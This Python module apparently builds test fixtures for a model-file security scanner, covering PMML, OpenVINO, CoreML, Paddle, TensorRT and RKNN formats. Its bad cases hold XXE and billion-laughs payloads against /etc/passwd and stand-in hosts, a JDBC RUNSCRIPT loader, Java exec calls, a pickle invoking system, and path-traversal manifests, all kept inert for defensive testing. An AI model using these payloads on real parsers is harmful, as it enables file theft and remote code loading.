"""Formats of runtimes: PMML and OpenVINO (XML), CoreML, Paddle, TensorRT, RKNN."""

from __future__ import annotations

import json
import struct

from .assembler import inert_pickle
from .case import Content, Shelf
from .confusion import elf
from .protobuf import entry, field, packed, varint
from .zipwriter import Member, zip_bytes

# --- PMML --------------------------------------------------------------------------------------------------------

PMML = """<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header copyright="waag" description="{description}"><Application name="waag" version="1.0"/></Header>
  <DataDictionary numberOfFields="2"><DataField name="y" optype="continuous" dataType="double"/><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  <TransformationDictionary>{transformations}</TransformationDictionary>
  <RegressionModel functionName="regression" modelName="linear">
    <MiningSchema><MiningField name="y" usageType="target"/><MiningField name="x"/></MiningSchema>
    <RegressionTable intercept="0.5"><NumericPredictor name="x" coefficient="1.5"/></RegressionTable>{extension}
  </RegressionModel>
</PMML>
"""


def pmml(prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n', description: str = "a line", transformations: str = "", extension: str = "") -> bytes:
    return (prolog + PMML.format(description=description, transformations=transformations, extension=extension)).encode()


XML = '<?xml version="1.0"?>\n'
ENTITIES = {
    "file": '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "http": '<!DOCTYPE PMML [<!ENTITY x SYSTEM "http://example.invalid/x">]>', "public": '<!DOCTYPE PMML [<!ENTITY x PUBLIC "a" "http://example.invalid/x">]>',
    "netdoc": '<!DOCTYPE PMML [<!ENTITY x SYSTEM "netdoc:/etc/passwd">]>', "jar": '<!DOCTYPE PMML [<!ENTITY x SYSTEM "jar:http://example.invalid/x.jar!/y">]>', "php": '<!DOCTYPE PMML [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>',
    "laughs": "<!DOCTYPE PMML [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 12)) + "<!ENTITY x '&a11;'>]>",
    "quadratic": "<!DOCTYPE PMML [<!ENTITY x '" + "A" * 50_000 + "'>]>", "recursive": "<!DOCTYPE PMML [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>",
}


def doctype(id: str) -> bytes:
    return pmml(XML + ENTITIES[id] + "\n", description="&x;" * (1000 if id == "quadratic" else 1))


def pmml_bad() -> Shelf:
    shelf = Shelf("pmml", source="construction, after PMML 4.4 and XML's known attacks")

    def add(id: str, data: bytes, why: str, expect: str = "deny", name: str = "model.pmml") -> None:
        shelf.bad(id, data, why, name=name, expect=expect)

    for id in ENTITIES:
        add(f"entity-{id}", doctype(id), f"an entity: {id}", "not-allow" if id == "recursive" else "deny")
    add("entity-parameter", pmml(XML + '<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://example.invalid/x.dtd"> %p;]>\n'), "a parameter entity from outside")
    add("entity-parameter-nested", pmml(XML + "<!DOCTYPE PMML [<!ENTITY % a '<!ENTITY &#37; b SYSTEM \"file:///etc/passwd\">'> %a; %b;]>\n"), "a parameter entity inside another")
    add("doctype-external", pmml(XML + '<!DOCTYPE PMML SYSTEM "http://example.invalid/x.dtd">\n'), "a document type from outside")
    add("doctype-lower", pmml(XML + "<!-- <x> --><?y z?>" + ENTITIES["file"], description="&x;"), "a document type behind comments")
    add("entity-attribute", doctype("file").replace(b"&x;", b"a").replace(b"modelName=\"linear\"", b"modelName=\"&x;\""), "an entity declared, used nowhere allowed")
    add("entity-utf16", doctype("file").decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"', 1).encode("utf-16"), "an entity in UTF-16", "not-allow")
    add("entity-utf16-be", doctype("file").decode().encode("utf-16-be"), "an entity in UTF-16 without a mark", "not-allow")
    add("entity-utf7", b'<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE PMML [+ADwAIQ-ENTITY x SYSTEM "file:///etc/passwd"+AD4AXQA+-\n+ADw-PMML/+AD4-', "an entity in UTF-7", "not-allow")
    add("entity-named-xml", doctype("file"), "an entity in a file called .xml", name="model.xml")
    add("xinclude", pmml(extension='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), "a file included", "not-allow")
    add("stylesheet", pmml(XML + '<?xml-stylesheet type="text/xsl" href="http://example.invalid/x.xsl"?>\n'), "a style sheet from outside", "not-allow")
    for id, name in (("runtime", "java.lang.Runtime.exec"), ("class", "com.example.waag.EvilFunction"), ("process", "java.lang.ProcessBuilder.start"), ("r", "x-r-system"), ("script", "javax.script.ScriptEngine.eval")):
        add(f"function-{id}", pmml(transformations=f'<DerivedField name="d" optype="continuous" dataType="double"><Apply function="{name}"><Constant dataType="string">echo waag-inert</Constant></Apply></DerivedField>'),
            f"a Java function: {name}", "not-allow" if name.startswith("x-") else "deny")
    # Text in an extension, Java or HTML, is run by no evaluator: no case.
    for id, body in (("javascript", '<Extension name="x"><script>eval("waag-inert")</script></Extension>'), ("pickle", '<Extension name="model">gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu</Extension>')):
        add(f"extension-{id}", pmml(extension=body), f"an extension with {id}", "not-allow")
    add("table-locator", pmml(transformations='<DerivedField name="d" optype="categorical" dataType="string"><MapValues outputColumn="o"><TableLocator><Extension name="jdbc" value="jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://example.invalid\'"/></TableLocator></MapValues></DerivedField>'),
        "a table in a database that runs a script")
    add("tail-pickle", pmml() + inert_pickle(), "a pickle behind the model", "not-allow")
    add("truncated", pmml()[:-60], "the end is missing", "not-allow")
    add("deep", (XML + "<PMML>" + "<Extension>" * 50_000).encode(), "elements fifty thousand deep", "not-allow")
    add("duplicate-attribute", pmml().replace(b'modelName="linear"', b'modelName="linear" modelName="evil"'), "an attribute twice", "not-allow")
    return shelf


def pmml_good() -> Shelf:
    shelf = Shelf("good-pmml", source="construction, after PMML 4.4")

    def add(id: str, data: bytes, why: str) -> None:
        shelf.good(id, data, why, name="model.pmml")

    add("linear", pmml(), "a line")
    add("words", pmml(description="never eval() this; os.system and Runtime.exec are words"), "a description that frightens scanners")
    add("built-in", pmml(transformations='<DerivedField name="d" optype="continuous" dataType="double"><Apply function="ln"><FieldRef field="x"/></Apply></DerivedField>'), "a built-in function")
    add("defined", pmml(transformations='<DefineFunction name="twice" optype="continuous"><ParameterField name="a"/><Apply function="*"><FieldRef field="a"/><Constant>2</Constant></Apply></DefineFunction><DerivedField name="d" optype="continuous" dataType="double">'
        '<Apply function="twice"><FieldRef field="x"/></Apply></DerivedField>'), "a function defined in the model")
    add("extension", pmml(extension='<Extension extender="sklearn2pmml" name="version" value="0.100.0"/>'), "an extension as exporters write it")
    add("comment", pmml('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!-- exported by waag; <!DOCTYPE is a word -->\n'.replace("<!DOCTYPE", "DOCTYPE")), "a comment")
    add("cdata", pmml(extension="<Extension name=\"note\"><![CDATA[a < b && c > d]]></Extension>"), "text with angles")
    add("entities", pmml(description="&lt;a &amp; b&gt; &#233;"), "the standard's own entities")
    return shelf


# --- OpenVINO ----------------------------------------------------------------------------------------------------

WEIGHTS = struct.pack("<6f", 1, 2, 3, 4, 5, 6)
PORT = '<port id="0" precision="FP32"><dim>1</dim><dim>3</dim></port>'


def openvino(data: str = '<data element_type="f32" shape="2, 3" offset="0" size="24"/>', layer: str = "", prolog: str = '<?xml version="1.0"?>\n', name: str = "model", rt: str = "") -> bytes:
    return (f'{prolog}<net name="{name}" version="11">\n<layers>\n<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/><output>{PORT}</output></layer>\n'
            f'<layer id="1" name="w" type="Const" version="opset1">{data}<output><port id="0" precision="FP32"><dim>2</dim><dim>3</dim></port></output></layer>\n'
            '<layer id="2" name="m" type="MatMul" version="opset1"><data transpose_a="false" transpose_b="true"/><input><port id="0" precision="FP32"><dim>1</dim><dim>3</dim></port><port id="1" precision="FP32"><dim>2</dim><dim>3</dim></port></input>'
            '<output><port id="2" precision="FP32"><dim>1</dim><dim>2</dim></port></output></layer>\n'
            f'<layer id="3" name="y" type="Result" version="opset1"><input><port id="0" precision="FP32"><dim>1</dim><dim>2</dim></port></input></layer>\n{layer}</layers>\n<edges>\n<edge from-layer="0" from-port="0" to-layer="2" to-port="0"/>\n'
            f'<edge from-layer="1" from-port="0" to-layer="2" to-port="1"/>\n<edge from-layer="2" from-port="2" to-layer="3" to-port="0"/>\n</edges>\n<rt_info>{rt}</rt_info>\n</net>\n').encode()


def openvino_bad() -> Shelf:
    shelf = Shelf("openvino", source="construction, after OpenVINO's IR")

    def add(id: str, xml: bytes, why: str, expect: str = "not-allow", binary: bytes = WEIGHTS, more: dict[str, bytes] | None = None) -> None:
        shelf.bad(id, {"model.xml": xml, "model.bin": binary, **(more or {})}, why, name="model", expect=expect)

    for id, data, why in (("offset-beyond", '<data element_type="f32" shape="2, 3" offset="99999999" size="24"/>', "behind the file"), ("size-beyond", '<data element_type="f32" shape="2, 3" offset="0" size="99999999"/>', "longer than the file"),
                          ("size-differs", '<data element_type="f32" shape="1000, 1000" offset="0" size="24"/>', "smaller than their shape"), ("offset-overflow", '<data element_type="f32" shape="2, 3" offset="18446744073709551608" size="24"/>', "that wrap"),
                          ("offset-negative", '<data element_type="f32" shape="2, 3" offset="-24" size="24"/>', "at a negative place"), ("shape-negative", '<data element_type="f32" shape="-2, 3" offset="0" size="24"/>', "of a negative shape")):
        add(id, openvino(data), f"weights {why}")
    add("custom-layer", openvino(layer='<layer id="9" name="e" type="Evil" version="extension"/>\n'), "a layer of an extension")
    add("custom-opset", openvino(layer='<layer id="9" name="e" type="Evil" version="waag_opset"/>\n'), "a layer of an operator set nobody knows")
    add("extension-library", openvino(layer='<layer id="9" name="e" type="Evil" version="extension"><data library="./libevil.so"/></layer>\n'), "a layer that names a library", more={"libevil.so": elf()})
    add("python-op", openvino(layer='<layer id="9" name="e" type="PythonOp" version="extension"><data module="os" function="system"/></layer>\n'), "a layer in Python")
    add("custom-gpu-kernel", openvino(), "a kernel beside the model", more={"custom_layers.xml": b'<CustomLayer name="Evil" type="SimpleGPU" version="1"><Kernel entry="evil"><Source filename="../../evil.cl"/></Kernel></CustomLayer>'})
    add("entity-file", openvino(prolog=XML + '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', name="&x;"), "an entity from a file", "deny")
    add("entity-laughs", openvino(prolog=XML + ENTITIES["laughs"].replace("PMML", "net") + "\n", name="&x;"), "entities that grow", "deny")
    add("bin-pickle", openvino(), "a pickle in place of the weights", "deny", binary=inert_pickle())
    add("bin-elf", openvino(), "a program in place of the weights", "deny", binary=elf())
    add("bin-tail", openvino(), "a pickle behind the weights", binary=WEIGHTS + inert_pickle())
    # What the converter was told (rt_info) is not read back: no case.
    return shelf


def openvino_good() -> Shelf:
    shelf = Shelf("good-openvino", source="construction, after OpenVINO's IR")

    def add(id: str, xml: bytes, why: str) -> None:
        shelf.good(id, {"model.xml": xml, "model.bin": WEIGHTS}, why, name="model")

    add("plain", openvino(), "a matrix product")
    add("words", openvino(name="eval_exec_os.system"), "a name that frightens scanners")
    add("rt-info", openvino(rt='<Runtime_version value="2024.4.0-16579-c3152d32c9c"/><conversion_parameters><framework value="pytorch"/><is_python_object value="True"/></conversion_parameters><optimum><optimum_version value="1.23.0"/></optimum>'), "information as the converter writes it")
    try:
        import tempfile
        from pathlib import Path

        import numpy as np
        import openvino as ov
        from openvino import opset13 as ops
    except Exception as error:  # noqa: BLE001
        shelf.skip(f"openvino is missing: its own models were left out ({type(error).__name__})")
        return shelf
    x = ops.parameter([1, 3], np.float32, name="x")
    model = ov.Model([ops.relu(ops.matmul(x, ops.constant(np.arange(6, dtype="f4").reshape(3, 2)), False, False))], [x], "waag")
    for id, half in (("library", False), ("library-half", True)):
        with tempfile.TemporaryDirectory() as home:
            ov.save_model(model, str(Path(home) / "model.xml"), compress_to_fp16=half)
            shelf.good(id, {p.name: p.read_bytes() for p in Path(home).iterdir()}, "written by openvino", name="model", source="the installed library")
    return shelf


# --- CoreML ------------------------------------------------------------------------------------------------------


def description() -> bytes:
    feature = field(1, "x") + field(3, field(5, packed(1, [3]) + field(2, 65568)))
    return field(1, feature) + field(10, field(1, "y") + field(3, field(5, packed(1, [2]) + field(2, 65568)))) + field(100, field(1, "a model; never eval() this") + field(3, "waag"))


def linear() -> bytes:
    return field(1, "fc") + field(2, "x") + field(3, "y") + field(140, field(1, 3) + field(2, 2) + field(20, field(1, WEIGHTS)))


def coreml(kind: int = 500, body: bytes | None = None, extra: bytes = b"", version: int = 4) -> bytes:
    return field(1, version) + field(2, description()) + field(kind, field(1, linear()) if body is None else body) + extra


MANIFEST = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"}},
            "rootModelIdentifier": "A"}


def package(model: bytes, manifest: dict | None = None, more: dict[str, bytes] | None = None) -> Content:
    return {"Manifest.json": json.dumps(manifest or MANIFEST).encode(), "Data/com.apple.CoreML/model.mlmodel": model, **(more or {})}


def coreml_bad() -> Shelf:
    shelf = Shelf("coreml", source="construction, after CoreML's protos")

    def add(id: str, data: Content, why: str, expect: str = "not-allow", name: str = "model.mlmodel") -> None:
        shelf.bad(id, data, why, name="model.mlpackage" if isinstance(data, dict) else name, expect=expect)

    custom = field(10, "WaagEvilModel") + entry(30, "path", field(20, "/etc/passwd"))
    layer = field(1, "c") + field(2, "x") + field(3, "y") + field(500, field(10, "WaagEvilLayer") + entry(30, "command", field(20, "echo waag-inert")))
    add("custom-model", coreml(555, custom), "a model of the application's own class")
    add("custom-layer", coreml(500, field(1, linear()) + field(1, layer)), "a layer of the application's own class")
    add("custom-in-pipeline", coreml(202, field(1, coreml()) + field(1, coreml(500, field(1, layer)))), "a custom layer inside a pipeline")
    add("custom-in-classifier", coreml(403, field(1, layer)), "a custom layer in a classifier")
    for id, path in (("parent", "../../../etc"), ("absolute", "/etc"), ("name", "weights")):
        add(f"linked-{id}", coreml(556, field(1, field(1, field(1, "evil.mlmodelc")) + field(2, field(1, path)))), f"a model linked from {path}")
    add("layer-tail", coreml() + inert_pickle(), "a pickle behind the model")
    add("unknown-field-elf", coreml(extra=field(900, elf())), "a program in a field no reader knows")
    add("weights-pickle", coreml(500, field(1, field(1, "fc") + field(140, field(1, 3) + field(2, 2) + field(20, field(30, inert_pickle()))))), "a pickle as raw weights")
    add("shape-lies", coreml(500, field(1, field(1, "fc") + field(140, field(1, 1 << 40) + field(2, 1 << 20) + field(20, field(1, WEIGHTS))))), "weights smaller than their layer")
    add("truncated", coreml()[:-9], "the end is missing")
    add("length-lies", field(1, 4) + b"\x12" + varint(1 << 45), "a description of thirty terabytes")
    add("package-parent", package(coreml(), {**MANIFEST, "itemInfoEntries": {"A": {"name": "m", "path": "../../../etc/passwd"}}}), "a manifest that points up", "deny")
    add("package-absolute", package(coreml(), {**MANIFEST, "itemInfoEntries": {"A": {"name": "m", "path": "/etc/passwd"}}}), "a manifest that points elsewhere", "deny")
    add("package-custom", package(coreml(555, custom)), "a package with a custom model")
    add("package-pickle", package(coreml(), more={"Data/com.apple.CoreML/weights/extra.pkl": inert_pickle()}), "a pickle in the package", "deny")
    add("package-program", package(coreml(), more={"Data/tool": elf()}), "a program in the package", "deny")
    constant = field(1, "const") + entry(5, "val", field(5, field(1, "@model_path/../../../../etc/passwd") + field(2, 64)))
    mil = coreml(502, field(1, 1) + entry(2, "main", field(2, "CoreML7") + entry(3, "CoreML7", field(3, constant))), version=8)
    add("mil-blob-path", package(mil), "an ML program that names a path above", "not-allow")
    return shelf


def coreml_good() -> Shelf:
    shelf = Shelf("good-coreml", source="construction, after CoreML's protos")
    shelf.good("network", coreml(), "a fully connected layer", name="model.mlmodel")
    shelf.good("pipeline", coreml(202, field(1, coreml()) + field(1, coreml())), "a pipeline", name="model.mlmodel")
    shelf.good("package", package(coreml()), "a package", name="model.mlpackage")
    try:
        import coremltools as ct
        import numpy as np
        from coremltools.models import datatypes
        from coremltools.models.neural_network import NeuralNetworkBuilder
    except Exception as error:  # noqa: BLE001
        shelf.skip(f"coremltools is missing: its own models were left out ({type(error).__name__})")
        return shelf
    builder = NeuralNetworkBuilder([("x", datatypes.Array(3))], [("y", datatypes.Array(2))], disable_rank5_shape_mapping=True)
    builder.add_inner_product("eval", np.arange(6, dtype="f4").reshape(2, 3), None, 3, 2, False, "x", "y")
    shelf.good("library", builder.spec.SerializeToString(), "written by coremltools", name="model.mlmodel", source="the installed library")
    assert ct
    return shelf


# --- Paddle ------------------------------------------------------------------------------------------------------


def paddle_op(kind: str, attrs: dict[str, str] | None = None) -> bytes:
    return field(1, field(1, "X") + field(2, "x")) + field(2, field(1, "Out") + field(2, "y")) + field(3, kind) + b"".join(field(4, field(1, k) + field(2, 2) + field(5, v)) for k, v in (attrs or {}).items())


def paddle_program(ops: list[bytes] | None = None, blocks: list[list[bytes]] | None = None) -> bytes:
    variable = field(1, "w") + field(2, field(1, 7) + field(3, field(1, field(1, 5) + packed(2, [3, 2])))) + field(3, 1)
    blocks = blocks or [[paddle_op("matmul_v2")] if ops is None else ops]
    return b"".join(field(1, field(1, i) + field(2, max(i - 1, 0)) + field(3, variable) + field(4, *inner)) for i, inner in enumerate(blocks)) + field(4, field(1, 0))


def paddle_tensor(dims: list[int] | None = None, data: bytes = WEIGHTS, size: int | None = None) -> bytes:
    desc = field(1, 5) + b"".join(field(2, d) for d in (dims or [3, 2]))
    return struct.pack("<IQI", 0, 0, 0) + struct.pack("<i", len(desc) if size is None else size) + desc + data


def paddle_bad() -> Shelf:
    shelf = Shelf("paddle", source="construction, after Paddle's framework.proto")

    def add(id: str, data: Content, why: str, expect: str = "not-allow", name: str = "inference.pdmodel") -> None:
        shelf.bad(id, data, why, name="model" if isinstance(data, dict) else name, expect=expect)

    for kind, expect in (("py_func", "deny"), ("py_layer", "deny"), ("load", "not-allow"), ("save", "not-allow"), ("load_combine", "not-allow"), ("save_combine", "not-allow"), ("pull_sparse", "not-allow"), ("send_v2", "not-allow"), ("listen_and_serv", "not-allow"),
                         ("waag_custom_op", "not-allow"), ("print", "not-allow")):
        if kind != "print":
            add(f"op-{kind.replace('_', '-')}", paddle_program([paddle_op("matmul_v2"), paddle_op(kind, {"file_path": "/etc/passwd"})]), f"the operator {kind}", expect)
    add("op-in-second-block", paddle_program(blocks=[[paddle_op("while")], [paddle_op("py_func")]]), "a Python operator in a loop's block", "deny")
    add("model-named-old", paddle_program([paddle_op("py_func")]), "a Python operator in an old model", "deny", name="__model__")
    add("pir-json", json.dumps({"base_code": {"magic": "pir", "trainable": True, "version": 1}, "program": {"regions": [{"#": "region_0", "blocks": [{"#": "block_0", "args": [], "ops": [{"#": "1.py_func", "I": [], "O": [], "A": []},
        {"#": "pd_op.py_func", "I": [], "O": [], "A": []}]}]}]}}).encode(), "a Python operator in the newer JSON", "deny", name="inference.json")
    add("params-shape", paddle_tensor([1 << 40, 1 << 20]), "weights larger than the file", name="inference.pdiparams")
    add("params-negative", paddle_tensor([-1, 5]), "weights of a negative shape", name="inference.pdiparams")
    add("params-desc", paddle_tensor(size=1 << 30), "a description of a gigabyte", name="inference.pdiparams")
    add("params-tail", paddle_tensor() + inert_pickle(), "a pickle behind the weights", name="inference.pdiparams")
    add("params-truncated", paddle_tensor()[:-3], "the end is missing", name="inference.pdiparams")
    add("pdparams-pickle", inert_pickle(), "paddle.load unpickles it", "deny", name="model.pdparams")
    add("pdopt-pickle", inert_pickle(4), "paddle.load unpickles it", "deny", name="model.pdopt")
    add("pdiparams-info-pickle", {"inference.pdmodel": paddle_program(), "inference.pdiparams": paddle_tensor(), "inference.pdiparams.info": inert_pickle()}, "the information beside the weights is unpickled", "deny")
    return shelf


def paddle_good() -> Shelf:
    shelf = Shelf("good-paddle", source="construction, after Paddle's framework.proto")
    import pickle

    feed = [paddle_op("feed"), paddle_op("matmul_v2"), paddle_op("elementwise_add", {"op_namescope": "/eval/os.system/"}), paddle_op("fetch")]
    shelf.good("model", paddle_program(feed), "a matrix product", name="inference.pdmodel")
    shelf.good("params", paddle_tensor(), "its weights", name="inference.pdiparams")
    shelf.good("pair", {"inference.pdmodel": paddle_program(feed), "inference.pdiparams": paddle_tensor()}, "a model and its weights", name="model")
    shelf.good("pdparams", pickle.dumps({"StructuredToParameterName@@": {"w": "linear_0.w_0"}, "epoch": 3}, 4), "an ordinary state", name="model.pdparams")
    shelf.good("while", paddle_program(blocks=[feed, [paddle_op("scale")]]), "a loop", name="__model__")
    return shelf


# --- TensorRT, RKNN ----------------------------------------------------------------------------------------------


def engines() -> Shelf:
    shelf = Shelf("engines", source="construction; closed formats, so nobody can vouch for them")

    def add(id: str, data: bytes, why: str, expect: str = "not-allow", name: str = "model.engine") -> None:
        shelf.bad(id, data, why, name=name, expect=expect)

    trt = b"ftrt" + struct.pack("<IIQ", 0, 0x10, 256) + bytes(range(256))
    for name in ("model.engine", "model.trt", "model.plan"):
        add(f"tensorrt-{name[6:]}", trt, "a TensorRT engine: device code in a closed format", name=name)
        add(f"pickle-{name[6:]}", inert_pickle(), f"a pickle called {name}", "deny", name=name)
        add(f"elf-{name[6:]}", elf(), f"a program called {name}", "deny", name=name)
    add("tensorrt-elf", trt + elf(), "an engine with a host program in it")
    add("tensorrt-plugin", trt + b"waag_evil_plugin\0libevil.so\0/tmp/libevil.so\0", "an engine that names a plugin's library")
    add("tensorrt-python", trt + b"import os\nos.system('echo waag-inert')\n", "an engine with Python in it")
    head = b"RKNN" + bytes(4) + struct.pack("<QQ", 6, 64)
    add("rknn", head + bytes(64) + json.dumps({"version": "1.6.0", "target_platform": ["rk3588"]}).encode(), "an RKNN model: a closed format", name="model.rknn")
    add("rknn-pickle", head + inert_pickle(), "a pickle in an RKNN model", name="model.rknn")
    add("rknn-zip", head + zip_bytes([Member("x.pkl", inert_pickle())]), "a zip in an RKNN model", name="model.rknn")
    add("rknn-named-pickle", inert_pickle(), "a pickle called .rknn", "deny", name="model.rknn")
    return shelf
